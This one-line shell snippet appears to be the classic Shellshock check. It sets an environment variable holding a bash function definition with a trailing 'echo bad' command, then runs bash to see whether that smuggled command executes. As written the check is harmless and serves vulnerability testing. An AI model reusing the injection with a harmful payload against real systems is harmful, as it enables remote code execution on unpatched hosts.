export x='() { :;}; echo bad'; bash -c 'echo ok'
